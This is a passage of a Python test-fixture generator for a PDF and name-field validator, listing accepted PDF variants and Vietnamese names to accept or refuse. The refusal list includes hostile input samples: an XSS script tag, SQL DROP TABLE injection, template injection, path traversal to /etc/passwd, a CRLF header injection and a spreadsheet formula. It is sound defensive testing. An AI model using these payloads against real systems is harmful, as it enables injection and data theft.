        b"BT /F2 14 Tf 60 300 Td (Helvetica khong nhung) Tj ET BT /F3 14 Tf 60 270 Td (Times-Roman khong nhung) Tj ET",
        fonts=b"/F2 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> /F3 << /Type /Font /Subtype /Type1 /BaseFont /Times-Roman >>",
    ),
    "standard-14 fonts that are not embedded: not PDF/A as it stands, but very common",
)
add(
    "take-openaction-goto-first-page.pdf",
    "take",
    lambda: page(cat=b"/OpenAction [3 0 R /XYZ null null 0] /PageMode /UseNone /PageLayout /SinglePage"),
    "LibreOffice writes this /OpenAction destination in every export: it is not an action",
)
add(
    "take-bookmarks-and-info.pdf",
    "take",
    lambda: page(
        cat=b"/Outlines 10 0 R /Lang (vi-VN) /ViewerPreferences << /DisplayDocTitle true >>",
        trailer=b"/Info 12 0 R",
        extra=[
            b"<< /Type /Outlines /First 11 0 R /Last 11 0 R /Count 1 >>",
            b"<< /Title <FEFF0054F4> /Parent 10 0 R /A << /S /GoTo /D [3 0 R /Fit] >> >>",
            b"<< /Title <FEFF004B006800610069002000730069006E0068> /Producer (JavaScript Launch Printer 1.0) /CreationDate (D:20240312080000+07'00') >>",
        ],
    ),
    "the words JavaScript and Launch appear, but only as text in /Producer",
)
add("take-mediabox-negative-origin.pdf", "take", lambda: page(box=b"[-20 -30 575 812]"))
add(
    "take-incremental-update.pdf",
    "take",
    lambda: _update(base_pdf(), 4, zs(text_content("Da sua doi ngay 13/03/2024"))),
)
add(
    "take-mixed-page-sizes.pdf",
    "take",
    lambda: page(
        over={2: b"<< /Type /Pages /Kids [3 0 R 10 0 R 11 0 R] /Count 3 >>"},
        extra=[
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 %s] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>"
            % s
            for s in (b"1191 842", b"243 842")
        ],
    ),
    "A4, A3 landscape and a narrow strip",
)
add("take-blank-lines-after-eof.pdf", "take", lambda: base_pdf()[:-6] + b"%%EOF\r\n\r\n")

_TIME = None


def _rows(im) -> Iterator[bytes]:
    w, h = im.size
    raw = im.tobytes()
    return (raw[y * w : (y + 1) * w] for y in range(h))


def _rle(data: bytes) -> bytes:
    import re

    out = bytearray()
    for m in re.finditer(rb"(.)\1{0,127}", data, re.DOTALL):
        n = m.end() - m.start()
        out += bytes((257 - n if n > 1 else 0,)) + m.group(1)
    return bytes(out) + b"\x80"


# ============================================================= names for the name field

# (name, True = printable legal name / False = must be refused).  UNCERTAIN_NAMES lists those that are a matter of policy.
NAMES: tuple[tuple[str, bool], ...] = (
    # --- legitimate
    ("Nguyễn Văn An", True),  # NFC
    ("Nguye\u0302\u0303n Va\u0306n An", True),  # same, NFD
    ("Trần Thị Ngọc Ánh", True),
    ("Tra\u0302\u0300n Thi\u0323 Ngo\u0323c A\u0301nh", True),  # NFD
    ("\u01afng Ho\u0300ang Phu\u031bo\u031b\u0323ng", True),  # horn + dot, partly decomposed
    ("ĐẶNG THUỲ TRÂM", True),
    ("Đặng Thùy Trâm", True),  # old and new tone placement
    ("Lê", True),  # single word
    ("Ý", True),  # single letter
    ("Nguyễn Hoàng Thiên Ân Phúc Bảo Khánh Minh Đức Trường Giang X", True),  # exactly 60 characters
    ("Công Tằng Tôn Nữ Thị Phương Thảo", True),
    ("H'Hen Niê", True),  # Ê Đê, straight apostrophe
    ("H’Hen Niê", True),  # typographic apostrophe
    ("H'Mông Vừ A-Sử", True),  # apostrophe and hyphen
    ("K'Brôi", True),
    ("Y Moan Ênuôl", True),
    ("Y Bliă Niê Kdăm", True),
    ("Rơ Châm H'Yéo", True),
    ("Y Čuôr Mlô Duôn Dŭ", True),  # Č, ŭ: all in Liberation Serif
    ("Siu Y Ñĭ Ksŏr", True),  # Ñ, ĭ, ŏ
    ("Y Ƀlơk Ayŭn", True),  # U+0243, in Liberation Serif; uncertain
    ("Y ƀăk Êban", True),  # U+0180, in Liberation Serif; uncertain
    ("Y Thuyê\u0306n Niê", True),  # ê + breve, no single code point; uncertain
    ("Đinh A-Ngưi", True),
    ("Thạch Sơn-Tha", True),  # Khmer name in Latin letters
    ("Nguyễn Văn A.", True),  # dot
    ("J. R. O'Brien Nguyễn", True),
    ("Anne-Marie Lê-Dupont", True),
    ("François Müller Øst", True),  # foreign parent; uncertain
    ("Null", True),  # only looks special
    ("Ma Seo Páo", True),
    # --- must be refused
    ("", False),
    (" ", False),
    ("          ", False),
    ("\u00a0\u00a0\u00a0", False),  # no-break spaces only
    ("\u3000\u2003\u2009", False),  # other spaces only
    ("\u200b\u200c\u200d\ufeff", False),  # zero-width only
    ("\u2800\u2800", False),  # braille blank
    ("\u3164\u115f", False),  # Hangul fillers
    ("Nguyễn\u200bVăn An", False),  # zero-width inside
    ("Nguyễn\u00adVăn An", False),  # soft hyphen
    ("\ufeffNguyễn Văn An", False),  # byte-order mark; uncertain
    ("Nguyễn \u202enA năV", False),  # right-to-left override
    ("Nguyễn \u2066Văn\u2069 An", False),  # bidi isolates
    ("Nguyễn\x00Văn An", False),  # NUL
    ("\x00", False),
    ("Nguyễn\x1b[31m Văn", False),  # escape
    ("Nguyễn\x07\x08\x7fVăn", False),  # control characters
    ("Nguyễn\x85Văn\x9f", False),  # C1 controls
    ("Nguyễn\nVăn An", False),
    ("Nguyễn\r\nSet-Cookie: a=b", False),
    ("Nguyễn\tVăn\tAn", False),
    ("Nguyễn\u2028Văn\u2029An", False),  # line and paragraph separator
    ("An 😀", False),
    ("👨\u200d👩\u200d👧\u200d👦", False),
    ("🇻🇳", False),
    ("Nguyễn ❤\ufe0f An", False),
    ("Ꝏꞛꭓ", False),  # letters, but no glyph in Liberation Serif
    ("Nguyễn Ꝏăn", False),
    ("a" + "\u0301" * 90, False),  # 90 combining marks
    ("Ng" + "".join(chr(0x300 + i % 0x30) for i in range(90)) + "uyễn", False),
    ("\u0301", False),  # a combining mark alone
    (" \u0301An", False),  # mark on a space
    ("An\u20dd Bình\u20e0", False),  # enclosing marks
    ("\ue000\uf8ff An", False),  # private use
    ("\U000f0000\U0010fffd", False),  # private use, planes 15 and 16
    ("An\ufffe\uffff", False),  # non-characters
    ("An \ufffd", False),  # replacement character
    ("An\U000e0041\U000e0042", False),  # tag characters
    ("An \u0378", False),  # unassigned
    ("阮文安", False),  # CJK
    ("𡨸喃", False),  # Nôm, beyond the BMP
    ("ཨོཾ", False),  # Tibetan
    ("محمد", False),  # Arabic, no glyphs in the font
    ("ស្រី", False),  # Khmer script
    ("𝓝𝓰𝓾𝔂𝓮𝓷", False),  # mathematical letters
    ("Ｎｇｕｙｅｎ", False),  # full width
    ("<script>alert(1)</script>", False),
    ("<b>An</b>", False),
    ("An &lt;b&gt;", False),
    ("{{7*7}} ${7*7} <%= 7*7 %>", False),
    ("'; DROP TABLE nguoi; --", False),
    ("../../etc/passwd", False),
    ('=HYPERLINK("http://example.invalid")', False),
    ("%00%0a%n%s", False),
    ("12345", False),
    ("---", False),
    ("'", False),
    ("...", False),
    ("A" * 1000, False),
    ("Nguyễn " * 150, False),
    ("ﷺ" * 5, False),  # one character, very wide; NFKC expands 18-fold
    ("An\u034f\u034fBình", False),  # combining grapheme joiner
    ("An\u180e\u061cBình", False),  # Mongolian separator, Arabic mark
    ("Nguyễn № ☎ An", False),
)

UNCERTAIN_NAMES: dict[str, str] = {
    "Ý": "one letter only",
    "Y Ƀlơk Ayŭn": "U+0243 is in Liberation Serif, but outside the ordinary Vietnamese alphabet",
    "Y ƀăk Êban": "U+0180, as above",
    "Y Thuyê\u0306n Niê": "ê with breve has no single code point: one combining mark stays after NFC; printable in Liberation Serif",
    "François Müller Øst": "foreign letters, all printable",
    "Nguyễn Văn A.": "a dot at the end",
    "\ufeffNguyễn Văn An": "could be stripped instead of refused",
    "Nguyễn\u00adVăn An": "could be stripped instead of refused",
    "Nguyễn\tVăn\tAn": "white space could be folded instead of refused",
    "Nguyễn\nVăn An": "white space could be folded instead of refused",
    "Ｎｇｕｙｅｎ": "NFKC would turn it into plain letters",
    "12345": "printable, but no letters",
    "---": "printable, but no letters",
    "'": "printable, but no letters",
    "...": "printable, but no letters",
    "An &lt;b&gt;": "printable; harmless if escaped",
    "<b>An</b>": "printable; harmless if escaped",
    "'; DROP TABLE nguoi; --": "printable; harmless if bound",
    "../../etc/passwd": "printable; harmless if never a path",
    "<script>alert(1)</script>": "printable; harmless if escaped",
    "{{7*7}} ${7*7} <%= 7*7 %>": "printable; harmless if never a template",
    '=HYPERLINK("http://example.invalid")': "printable; harmless outside a spreadsheet",
    "%00%0a%n%s": "printable; harmless if never decoded",
    "A" * 1000: "no stated length limit",
    "Nguyễn " * 150: "no stated length limit",
}

# made once with pikepdf (R=6, AES-256 salts are random), password 'mat-khau', owner 'chu'
_AES_USER = (
    "JVBERi0xLjcKJb/3ov4KMSAwIG9iago8PCAvRXh0ZW5zaW9ucyA8PCAvQURCRSA8PCAvQmFzZVZlcnNpb24gLzEuNyAvRXh0ZW5zaW9uTGV2ZWwgOCA+"
    "PiA+PiAvUGFnZXMgMiAwIFIgL1R5cGUgL0NhdGFsb2cgPj4KZW5kb2JqCjIgMCBvYmoKPDwgL0NvdW50IDEgL0tpZHMgWyAzIDAgUiBdIC9UeXBlIC9Q"
    "YWdlcyA+PgplbmRvYmoKMyAwIG9iago8PCAvQ29udGVudHMgWyA0IDAgUiA1IDAgUiBdIC9NZWRpYUJveCBbIDAgMCA1OTUgODQyIF0gL1BhcmVudCAy"
    "IDAgUiAvUmVzb3VyY2VzIDw8IC9Gb250IDw8IC9GMSA2IDAgUiA+PiAvWE9iamVjdCA8PCA+PiA+PiAvVHlwZSAvUGFnZSA+PgplbmRvYmoKNCAwIG9i"
    "ago8PCAvRmlsdGVyIC9GbGF0ZURlY29kZSAvTGVuZ3RoIDM4NCA+PgpzdHJlYW0KoPvZyqfg5zMuLKrRo+NHyiOvojS2KIWvfnbi3Ns8vD78JUpbqJy+"
    "mwLKjvVzBUkNTXb2vfZVmfcCBQ96sjJbVYdbrIvnn33X9DW9gIrc6xVMXlV8oXlscIsxCH1bzIX0FTWLarPETIW1Qpy/QiZILWGzkr6bh4f+sWUm0abS"
    "AYZX5PVRWqpph7umVM2NSq5iImXkJUkIkYcsWNojtq6fXzTquJduFqCBjREp5KYrnhM1iU4s7QIYA7pGG5notG8GyPBJ1kXFS+we/OlkKizHZRWyXtcX"
    "Hhm16oKzjqUs6kL3Od2sD/8djUJ+FC95zAGnMK/7FO4p0kyPlzxIjFfoGn06BkUXC7N/zKpZ9yOfVmA3ImIyhwhhfPfQhjE98/OaqsgQXuJPFCwe3x9r"
    "o9ONUpUydmsp9EX5smKzLFCX/WKjhWJlbtJrYGMmE1TirpE+TXaVvxW9/wwPHT8YjxiaEkgVfbYqaW/01V6IoFkbYtvQM3DTCCDtBc9DN6CxNCL8CmVu"
    "ZHN0cmVhbQplbmRvYmoKNSAwIG9iago8PCAvTGVuZ3RoIDQ4IC9GaWx0ZXIgL0ZsYXRlRGVjb2RlID4+CnN0cmVhbQpQNXZBty37gd0RMlII7lNZdF+b"
    "KLgWkcJztRWqqANxkjU9vv9QwHf30oC1j7oCZdUKZW5kc3RyZWFtCmVuZG9iago2IDAgb2JqCjw8IC9CYXNlRm9udCAvSGVsdmV0aWNhIC9TdWJ0eXBl"
    "IC9UeXBlMSAvVHlwZSAvRm9udCA+PgplbmRvYmoKNyAwIG9iago8PCAvQ0YgPDwgL1N0ZENGIDw8IC9BdXRoRXZlbnQgL0RvY09wZW4gL0NGTSAvQUVT"
    "VjMgL0xlbmd0aCAzMiA+PiA+PiAvRmlsdGVyIC9TdGFuZGFyZCAvTGVuZ3RoIDI1NiAvTyA8NmM1NjQ4NTRmNjEzYTA2ZjY2ZWM2YzJjOGI0YjM4NGY3"
    "NDc4ZGQwNDRmZTY0ODdmOWY0MmEwNzkzMmUzZjNjYmU0MTViYWVjNGVjNGE1ZDkwZGM0ZjdlMDQ1ZTAzODY3PiAvT0UgPDEwZTRkMmNhYzM5ZWYwMTNj"
    "NTQyYTdiZjZlOGNiOWU3ZmMyOGI1OGJkNjM0MDg1Y2MzODBjNjVjMmZlNmUyYjY+IC9QIC0xMDI4IC9QZXJtcyA8YmU3OTAxN2I5M2IzNmY2OTE1MjRl"
    "YWNkMWRjNDUwMDU+IC9SIDYgL1N0bUYgL1N0ZENGIC9TdHJGIC9TdGRDRiAvVSA8NmJkNmJhYjZlNWJlOGMzMzM3NDU2OTk5ZTg1ZTU1NTI0M2ZmZDNk"
    "NGE1NDMxNGMwNDExMTZlOTY0YWRkMmI2NzVkZWJjODBmYjBhNWVlMmJkODdhY2NmYjliOTk4ZmZjPiAvVUUgPDcyMGE1YjU3ZmNjMjAyNDQ3YjU2MTli"
    "MDNlMzdmOGU1MzZhNTU5YjcxMTAxZTVhNjgzYjQ4MWE0OTBhZDdmMjA+IC9WIDUgPj4KZW5kb2JqCnhyZWYKMCA4CjAwMDAwMDAwMDAgNjU1MzUgZiAK"
    "MDAwMDAwMDAxNSAwMDAwMCBuIAowMDAwMDAwMTMwIDAwMDAwIG4gCjAwMDAwMDAxODkgMDAwMDAgbiAKMDAwMDAwMDM0MiAwMDAwMCBuIAowMDAwMDAw"
    "Nzk4IDAwMDAwIG4gCjAwMDAwMDA5MTcgMDAwMDAgbiAKMDAwMDAwMDk4NyAwMDAwMCBuIAp0cmFpbGVyIDw8IC9Sb290IDEgMCBSIC9TaXplIDggL0lE"
    "IFs8MDAxMTIyMzM0NDU1NjY3Nzg4OTlhYWJiY2NkZGVlZmY+PDMxNDE1OTI2NTM1ODk3OTMyMzg0NjI2NDMzODMyNzk1Pl0gL0VuY3J5cHQgNyAwIFIg"
    "Pj4Kc3RhcnR4cmVmCjE1MzcKJSVFT0YK"
)
# made once with pikepdf (R=6, AES-256 salts are random), password '', owner 'chu'
_AES_OWNER = (
    "JVBERi0xLjcKJb/3ov4KMSAwIG9iago8PCAvRXh0ZW5zaW9ucyA8PCAvQURCRSA8PCAvQmFzZVZlcnNpb24gLzEuNyAvRXh0ZW5zaW9uTGV2ZWwgOCA+"
    "PiA+PiAvUGFnZXMgMiAwIFIgL1R5cGUgL0NhdGFsb2cgPj4KZW5kb2JqCjIgMCBvYmoKPDwgL0NvdW50IDEgL0tpZHMgWyAzIDAgUiBdIC9UeXBlIC9Q"
    "YWdlcyA+PgplbmRvYmoKMyAwIG9iago8PCAvQ29udGVudHMgWyA0IDAgUiA1IDAgUiBdIC9NZWRpYUJveCBbIDAgMCA1OTUgODQyIF0gL1BhcmVudCAy"
    "IDAgUiAvUmVzb3VyY2VzIDw8IC9Gb250IDw8IC9GMSA2IDAgUiA+PiAvWE9iamVjdCA8PCA+PiA+PiAvVHlwZSAvUGFnZSA+PgplbmRvYmoKNCAwIG9i"
    "ago8PCAvRmlsdGVyIC9GbGF0ZURlY29kZSAvTGVuZ3RoIDM4NCA+PgpzdHJlYW0KL/5JFOYOsqzbkIaHl309+PvJ8FZzLFu3mMkpigcraJtK+L/pRLc8"
    "aXisMS9Rh/7LE7sv7tskZ260MENw4Wkl4KMAlPUQhgJ9vg3rdNHviPUE7C1ebEn+yy0KqezzlTPvflKbBk0k9Dy8vgxE07EbAS5C8HSLRBW1PYO2Twzw"
    "fjtHNAr8tXgfG+cZ4FhILGXtMUeifjUe0tWqMTKg4BhxR0CHpBODTJxfBhFlobY/kDLkhiF5X3m27EI4dntMtkzM5Ut/2oqu/ZqOMECRQYBw7r9+3k3h"
    "woWx+6vev44N0XdLYpfQ04i1PEgMlPgYypgvoQ29dAAl+zEDJ70sa16BCaSIL8EOWl9Wl/g4Y9BXU76h2APcQw4Gbap94zJTKHYjUx3sneaC/DY/VOUz"
    "t4somDIsVX6kxwv7DycCf/xJ3PgZ9wIQldGrzoEliMXBKPj1prrnlGUrYy1y0huJDJ9PTul50xjIn/iC+nrw2VZ2cyEPy/Tkr76m9Wqt4pYYl0uBCmVu"
    "ZHN0cmVhbQplbmRvYmoKNSAwIG9iago8PCAvTGVuZ3RoIDQ4IC9GaWx0ZXIgL0ZsYXRlRGVjb2RlID4+CnN0cmVhbQpbPauUr6XLHa9dF4cY1d+YNDcJ"
    "JgcvhoJtac30YHApOJOMv9mogMDQLL4ySiX5r6kKZW5kc3RyZWFtCmVuZG9iago2IDAgb2JqCjw8IC9CYXNlRm9udCAvSGVsdmV0aWNhIC9TdWJ0eXBl"
    "IC9UeXBlMSAvVHlwZSAvRm9udCA+PgplbmRvYmoKNyAwIG9iago8PCAvQ0YgPDwgL1N0ZENGIDw8IC9BdXRoRXZlbnQgL0RvY09wZW4gL0NGTSAvQUVT"
    "VjMgL0xlbmd0aCAzMiA+PiA+PiAvRmlsdGVyIC9TdGFuZGFyZCAvTGVuZ3RoIDI1NiAvTyA8MTdlZDMwMGY4NmNlMDE1NTg2Zjc1YTNhOGEwMzA4MGVh"
    "YjA4NDhlMjU0ZGVkMjFkOTdjYmFhY2FkMDc4Nzc4ODZlYTY1Nzk2MWNmODE5ZGRjYmNiYzE2ZTlkNDQ4MDlmPiAvT0UgPGJjNGYzNjJiZTI1ZWVlMTUz"
    "NTkxMjg5ZmZjYWY3ODI5ZTkzZjk3OTljOTEwZTkzNDIzMjFiMGY4YmIwMDAzNWQ+IC9QIC0xMDI4IC9QZXJtcyA8ZWU0Yjk1NjIxZTUyODk2OWI2MzNk"
    "ZjM2MmU3NzU5OGU+IC9SIDYgL1N0bUYgL1N0ZENGIC9TdHJGIC9TdGRDRiAvVSA8N2QzMWVlNzVlN2VhYjFjOGY4YTllZWIxN2YwOTY1YjIzM2MxODFl"
    "ZGMyNjZhMDJlMmIzODllNzM1NTdkYTFmYzhiNTgxODA3YzQyNDhlMWI3NGMyZGE4Njc5NGFlNWU4PiAvVUUgPGM0MDdhZjAzODI1NzdlMDQ1NjFlNThk"
    "ZTdjYzhhOTY3NzU3NWVkZGNkYThlYThmOTg4OGJjMDIxYjM2MTBkNzc+IC9WIDUgPj4KZW5kb2JqCnhyZWYKMCA4CjAwMDAwMDAwMDAgNjU1MzUgZiAK"
    "MDAwMDAwMDAxNSAwMDAwMCBuIAowMDAwMDAwMTMwIDAwMDAwIG4gCjAwMDAwMDAxODkgMDAwMDAgbiAKMDAwMDAwMDM0MiAwMDAwMCBuIAowMDAwMDAw"
    "Nzk4IDAwMDAwIG4gCjAwMDAwMDA5MTcgMDAwMDAgbiAKMDAwMDAwMDk4NyAwMDAwMCBuIAp0cmFpbGVyIDw8IC9Sb290IDEgMCBSIC9TaXplIDggL0lE"
    "IFs8MDAxMTIyMzM0NDU1NjY3Nzg4OTlhYWJiY2NkZGVlZmY+PDMxNDE1OTI2NTM1ODk3OTMyMzg0NjI2NDMzODMyNzk1Pl0gL0VuY3J5cHQgNyAwIFIg"
    "Pj4Kc3RhcnR4cmVmCjE1MzcKJSVFT0YK"
)


if __name__ == "__main__":
    import collections
    import hashlib
    import resource
    import sys
    import time

    t0 = time.time()
    seen: dict[str, str] = {}
    count: collections.Counter[str] = collections.Counter()
    sizes = []
    total = hashlib.sha256()
    for h in files():
        assert h.name not in seen, "duplicate name " + h.name
        assert isinstance(h.data, bytes)
        seen[h.name] = h.verdict
        count[h.verdict] += 1
        sizes.append((len(h.data), h.name))
        total.update(h.name.encode() + hashlib.sha256(h.data).digest())
        if "-v" in sys.argv:
            print(f"{len(h.data):9d} {h.verdict:7s} {h.name}")
    print(dict(count), "files", len(seen), "bytes", sum(s for s, _ in sizes))
    print("largest", sorted(sizes, reverse=True)[:14], "over 300 kB:", sum(s > 300_000 for s, _ in sizes))
    print(
        "digest",
        total.hexdigest()[:32],
        f"{time.time() - t0:.1f} s, peak {resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024:.0f} MB",
    )
    assert len({n for n, _ in NAMES}) == len(NAMES)
    assert set(UNCERTAIN_NAMES) <= {n for n, _ in NAMES}
    assert set(DOUBTFUL) <= set(seen)
    print("names", len(NAMES), "legal", sum(ok for _, ok in NAMES), "refuse", sum(not ok for _, ok in NAMES))
